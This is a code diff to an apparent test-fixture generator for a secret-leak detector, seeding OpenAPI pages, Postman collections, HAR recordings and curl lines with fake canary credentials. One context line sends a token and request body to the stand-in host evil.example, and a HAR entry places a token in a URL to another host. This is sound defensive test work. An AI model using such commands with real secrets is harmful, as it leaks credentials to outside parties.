@@ -15,7 +15,8 @@ TOKEN = "qzx842kCanaryToken-9_a"
 PASSWORD = "qzx843kPw!"
 MAIL, PHONE = "erika.qzx844@beispiel.example", "+49 151 844 844 84"
 JWT = "eyJhbGciOiJIUzI1NiJ9.eyJxeng4NDUi.qzx845signature"
-CANARIES = ("qzx84", "844 844")
+OWN = "qzxOwnKeyOfLetters"
+CANARIES = ("qzx84", "844 844", "qzxOwn", "hexagonal-Lamp")
 
 FIELDS = {
     "password": {"type": "string", "example": PASSWORD, "default": PASSWORD, "examples": [PASSWORD], "x-apifox-mock": PASSWORD},
@@ -69,10 +70,10 @@ def page() -> str:
     return f"# Stickers of {MAIL}\n\npassword: {PASSWORD}\n\n## OpenAPI Specification\n\n```yaml\n{json.dumps(whole)}\n```\n"
 
 
-SAID = f"Use clientKey: {KEY}, password = {PASSWORD}. Ask {MAIL}, {PHONE}. {JWT}"
+SAID = f"Use clientKey: {KEY}, password = {PASSWORD}. Ask {MAIL}, {PHONE}. {JWT} or {OWN} or hexagonal-Lamp"
 RAW = json.dumps({"data": VALUE, "messageId": TOKEN})
 COMMENTED = f'{{\n  // {SAID}\n  "password": "{PASSWORD}", // required, such as {PASSWORD}\n  "email": "{MAIL}", // {MAIL}\n  "{{{{x}}}}": 1\n}}'
-HEADERS = {"clientKey": KEY, "vAuthorization": TOKEN, "Access-Token": f"Bearer {TOKEN}", "X-Own": KEY, "Cookie": f"sid={TOKEN}; a={KEY}"}  # fmt: skip
+HEADERS = {"clientKey": KEY, "vAuthorization": TOKEN, "Access-Token": f"Bearer {TOKEN}", "X-Own": OWN, "Cookie": f"sid={TOKEN}; a={KEY}"}  # fmt: skip
 
 
 def collection() -> dict:
@@ -80,7 +81,7 @@ def collection() -> dict:
     headers.append({"key": "X-Off", "value": PASSWORD, "disabled": True})
     auth = {
         "type": "basic",
-        "basic": [{"key": "username", "value": "qzx847user9"}, {"key": "password", "value": PASSWORD}],
+        "basic": [{"key": "username", "value": "hexagonal-Lamp"}, {"key": "password", "value": PASSWORD}],
     }
     script = [{"listen": "prerequest", "script": {"exec": [f"pm.environment.set('token', '{TOKEN}')", SAID]}}]
     query = [{"key": "access_token", "value": TOKEN, "description": SAID}, {"key": "code", "value": JWT}]
@@ -123,6 +124,7 @@ def recording() -> dict:
         entry("/3pp/stickers/v1/qzx84-12345/parts", b64encode(answer.encode()).decode(), encoding="base64"),
         entry("/3pp/outbound/v1/cancel", answer),
         entry("/../qzx841kCanaryKey7", answer),
+        entry(f"/3pp/{OWN}/x", answer),
         {
             "request": {"method": "GET", "url": f"https://elsewhere.example/{TOKEN}"},
             "response": {"content": {"text": "{}"}},
@@ -140,13 +142,15 @@ def lines() -> str:
         f"# {SAID}\ncurl '{url}/3pp/stickers/v1/place?access_token={TOKEN}&name=qzx846' {options} -u me:{PASSWORD} --data-raw '{raw}'\n"
         f"curl {url}/3pp/outbound/v1/cancel -d '{raw}' {options}\n"
         f"curl {url}/3pp/x {more}\ncurl -G {url}/3pp/y/qzx84-99999 -d token={TOKEN}\ncurl https://{KEY}@evil.example/{TOKEN} -d '{raw}'\n"
+        f"curl {url}/3pp/{OWN}/x -d '{raw}'\ncurl {url}/3pp/hexagonal-Lamp/y -u hexagonal-Lamp:x\n"
     )  # fmt: skip
 
 
 def text() -> str:
-    fields = "".join(f"{name}\nstring\n{SAID}\n必需\n示例值:\n{value if isinstance(value, str) else TOKEN}\n" for name, value in VALUE.items())  # fmt: skip
+    said = SAID.partition(" or ")[0]  # what nothing in the text says to be a secret cannot be known
+    fields = "".join(f"{name}\nstring\n{said}\n必需\n示例值:\n{value if isinstance(value, str) else TOKEN}\n" for name, value in VALUE.items())  # fmt: skip
     return (
-        f"Stickers for {MAIL}\nPOST\n/3pp/stickers/v1/place\n{SAID}\n请求示例\nShell\ncurl -H 'clientKey: {KEY}' -d '{RAW}'\n"
+        f"Stickers for {MAIL}\nPOST\n/3pp/stickers/v1/place\n{said}\n请求示例\nShell\ncurl -H 'clientKey: {KEY}' -d '{RAW}'\n"
         f"响应示例\n{json.dumps({'code': 0, 'message': KEY, 'data': VALUE})}\n请求参数\nHeader 参数\nclientKey\nstring\n必需\n示例值:\n{KEY}\n"
         f"Query 参数\naccess_token\nstring\n必需\nExample:\n{TOKEN}\nBody 参数\n{fields}返回响应\n🟢200成功\nBody\n{fields}修改于 2025-01-01\n{TOKEN}\n"
     )  # fmt: skip
